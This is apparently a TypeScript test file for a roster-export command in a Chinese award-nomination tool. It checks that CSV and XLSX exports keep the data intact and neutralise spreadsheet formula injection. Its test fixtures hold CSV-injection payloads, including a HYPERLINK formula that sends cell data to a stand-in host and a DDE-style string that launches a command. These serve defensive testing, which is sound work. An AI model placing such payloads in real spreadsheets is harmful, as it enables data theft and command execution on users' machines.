import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { readXlsx } from 'hucre/xlsx';
import type { Refusal } from '#pipeline/command-line.ts';
import { exportCommand } from '#pipeline/export-command.ts';
import { csvFile, guarded, unguarded } from '#pipeline/roster/csv-guard.ts';
import { workbook } from '#pipeline/roster/workbook.ts';
import { aContent, aFolder, given, retype, ROUND, ROUND_FOLDER, run } from '#tests/office.ts';

async function exported(content: string, name: string, round = ROUND): Promise<Buffer> {
  const out = join(await aFolder(), name);
  await exportCommand(given({ content, round, out }));
  return readFile(out);
}

async function cellsOf(bytes: Uint8Array): Promise<string[][]> {
  const { sheets } = await readXlsx(bytes);
  return sheets[0]!.rows.map((row) => row.map((cell) => String(cell ?? '')));
}

/** RFC 4180, nothing else: quotes doubled, rows ended by CR LF. */
function parsedCsv(bytes: Uint8Array): string[][] {
  const text = new TextDecoder('utf-8', { fatal: true }).decode(bytes);
  const rows: string[][] = [];
  const cell = /"((?:[^"]|"")*)"(,|\r\n)/y;
  let row: string[] = [];
  for (let match = cell.exec(text); match; match = cell.exec(text)) {
    row.push(match[1]!.replaceAll('""', '"'));
    if (match[2] === '\r\n') {
      rows.push(row);
      row = [];
    }
    if (cell.lastIndex === text.length) return rows;
  }
  throw new Error('not a CSV file');
}

describe('the exported list', () => {
  it('is the office’s list in its order, with the ids in the first column', async () => {
    const [head = [], ...rows] = parsedCsv(await exported(await aContent(), '导出名单.csv'));
    assert.deepEqual(head.slice(0, 3), ['网站编号', '姓名', '工作单位']);
    assert.deepEqual(
      rows.map((row) => row.slice(0, 3)),
      [
        ['p3wd9hz', '骆青川', '澄湖市远航渡轮有限公司'],
        ['k7m2xq4', '庾岚', '澄湖市东湾纺织厂'],
        ['t5vb8nc', '帕丽扎·铁木尔', '澄湖市湖滨宾馆（集团）'],
      ],
    );
    const lan = Object.fromEntries(head.map((name, index) => [name, rows[1]![index]]));
    assert.deepEqual(
      { ...lan, 事迹材料: lan['事迹材料']!.slice(0, 10) },
      {
        网站编号: 'k7m2xq4',
        姓名: '庾岚',
        工作单位: '澄湖市东湾纺织厂',
        '岗位（职务）': '细纱挡车班长',
        工种: '细纱挡车工',
        所属行业: '',
        所属区县: '',
        技能等级: '高级工',
        职称: '',
        推荐方式: '工会推荐',
        推荐单位: '东湾区总工会',
        从事本工种年限: '12',
        符合条件: '1、2',
        本单位公示首日: '2024-07-04',
        本单位公示截止: '2024-07-08',
        简要事迹: '细纱挡车工，单手接头每分钟二十二根，断头率全厂最低。',
        荣誉: '2022 示例省纺织行业技术能手（省级）',
        绝技绝活: '',
        先进操作法: '三看两摸巡回法',
        专利: '',
        传帮带: '',
        事迹材料: '庾岚看八台细纱机，一',
        个人自述: '纱线断了可以接，手上的分寸要靠年头攒。',
        照片署名: '',
        照片同意: '',
        姓名读音: '',
      },
    );
  });

  it('holds the same in .xlsx as in .csv, for all sample rounds', async () => {
    for (const round of [
      'weihai-craftsman/2023',
      'weihai-chief-technician/2026',
      'jiaozuo-craftsman/2018',
      'baotou-craftsman/2023',
      'gangcheng-craftsman/2019',
    ]) {
      const csv = parsedCsv(await exported('content', 'a.csv', round)).map((row) => row.map(unguarded));
      assert.deepEqual(await cellsOf(await exported('content', 'a.xlsx', round)), csv, round);
      assert.ok(csv.length > 10, round);
    }
  });

  it('is the same file every time', async () => {
    const content = await aContent();
    for (const name of ['a.xlsx', 'a.csv']) {
      assert.deepEqual(await exported(content, name), await exported(content, name));
    }
  });
});

describe('what somebody may have typed to be evaluated', () => {
  const hostile = {
    summary: '=HYPERLINK("http://evil.example.org/?"&A1,"详情")',
    employer: "@SUM(1+1)*cmd|' /C calc'!A0",
    post: '+8613800000000',
    workMethod: '-2+3',
  };

  async function aHostileContent(): Promise<string> {
    const content = await aContent();
    const person = `${ROUND_FOLDER}/candidates/k7m2xq4.md`;
    await retype(
      content,
      person,
      '"细纱挡车工，单手接头每分钟二十二根，断头率全厂最低。"',
      JSON.stringify(hostile.summary),
    );
    await retype(content, person, '"澄湖市东湾纺织厂"', JSON.stringify(hostile.employer));
    await retype(content, person, '"细纱挡车班长"', JSON.stringify(hostile.post));
    await retype(content, person, '"三看两摸巡回法"', JSON.stringify(hostile.workMethod));
    return content;
  }

  it('is text in the workbook: no formula, every cell a string', async () => {
    const bytes = await exported(await aHostileContent(), 'a.xlsx');
    const cells = (await cellsOf(bytes)).flat();
    for (const value of Object.values(hostile)) assert.ok(cells.includes(value), value);
    const xml = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml']!);
    assert.doesNotMatch(xml, /<f[ >]/);
    assert.doesNotMatch(xml, /<c r="[A-Z]+\d+"(?: s="\d+")?(?: t="(?:n|str|b|e)")?(?: s="\d+")?><v>/);
  });

  it('is held back by an apostrophe in the CSV file', async () => {
    const cells = parsedCsv(await exported(await aHostileContent(), 'a.csv')).flat();
    for (const value of Object.values(hostile)) {
      assert.ok(cells.includes(`'${value}`), value);
      assert.ok(!cells.includes(value), value);
    }
    assert.ok(cells.every((cell) => !/^[=+\-@\t\r]/.test(cell)));
  });

  const soffice = '/usr/bin/soffice';
  it(
    'is not evaluated by LibreOffice, and long digits stay whole',
    { skip: !existsSync(soffice) && 'no LibreOffice' },
    async () => {
      const folder = await aFolder();
      const values = [
        ...Object.values(hostile),
        '=1+1',
        '110101190001011234',
        '0631',
        '202010000000',
        '1E5',
        '3-4',
        'TRUE',
      ];
      const rows = values.map((value) => [value]);
      await writeFile(join(folder, 'a.csv'), csvFile([['值'], ...rows]));
      await writeFile(
        join(folder, 'b.xlsx'),
        await workbook([{ name: '表', columns: [{ header: '值', width: 20 }], rows }]),
      );
      const convert = (file: string, ...more: string[]): void => {
        const filter = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false,false,false,1';
        const profile = `-env:UserInstallation=file://${folder}/profile`;
        spawnSync(
          soffice,
          [profile, '--headless', ...more, '--convert-to', filter, '--outdir', join(folder, 'out'), join(folder, file)],
          { timeout: 60_000 },
        );
      };
      convert('a.csv', '--infilter=CSV:44,34,76,1,,0,false,true');
      convert('b.xlsx');
      const read = async (name: string): Promise<string[]> =>
        (await readFile(join(folder, 'out', name), 'utf8'))
          .trimEnd()
          .split('\n')
          .slice(1)
          .map((line) => line.replace(/^"(.*)"$/, '$1').replaceAll('""', '"'));
      assert.deepEqual(await read('b-表.csv'), values);
      const fromCsv = await read('a-a.csv');
      // LibreOffice makes a number of 1E5 and a truth value of TRUE, as any spreadsheet does with CSV; none is a formula or loses a digit.
      assert.deepEqual(fromCsv.slice(0, 8).map(unguarded), values.slice(0, 8));
    },
  );
});

describe('the guard', () => {
  it('comes off exactly as it went on, whatever the text', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.stringMatching(/^'{0,3}[=+\-@＝＋－＠]?[0-9A-Z(]{0,20}$/),
      fc.constantFrom("'", "''", "'=", "''=", '=', "'110101190001011234", '0', '00', "'00", '\t', '\r\n=', "'甲"),
    );
    fc.assert(
      fc.property(text, (value) => {
        assert.equal(unguarded(guarded(value)), value);
        assert.doesNotMatch(guarded(value), /^[=+\-@＝＋－＠\t\r\n]/);
        assert.deepEqual(parsedCsv(csvFile([[value]])), [[guarded(value)]]);
      }),
      { seed: 20261121, numRuns: 5000 },
    );
  });

  it('leaves an office’s own apostrophe alone', () => {
    assert.equal(unguarded("'甲"), "'甲");
    assert.equal(unguarded("'18"), "'18");
  });
});

describe('npm run export', () => {
  it('says how many went where', async () => {
    const out = join(await aFolder(), '导出名单.xlsx');
    const { exit, out: said } = run(
      'export',
      '--round',
      ROUND,
      '--content',
      'tests/fixtures/content/base',
      '--out',
      out,
    );
    assert.deepEqual(
      [exit, said],
      [0, `已导出 ${ROUND}：3 人，26 列，${out}\n改正后可用 npm run import 导回，“网站编号”一列请勿改动。\n`],
    );
  });

  it('refuses another kind of file and an unknown round', async () => {
    const folder = await aFolder();
    await assert.rejects(exportCommand(given({ round: ROUND, out: join(folder, 'a.xls') })), {
      message: '--out 要以 .xlsx 或 .csv 结尾，例如 --out 导出名单.xlsx。',
    });
    await assert.rejects(
      exportCommand(given({ content: await aContent(), round: 'a/b', out: join(folder, 'a.csv') })),
      {
        code: 'round-unknown',
      },
    );
    await exportCommand(given({ content: await aContent(), round: ROUND, out: join(folder, 'a.csv') }));
    await assert.rejects(
      exportCommand(given({ content: await aContent(), round: ROUND, out: join(folder, 'a.csv', 'b.csv') })),
      (error: Refusal) => {
        assert.equal(error.code, 'not-written');
        assert.match(error.message, /^写不了文件 .+b\.csv：.+。原有文件保持原样。$/);
        return true;
      },
    );
  });
});
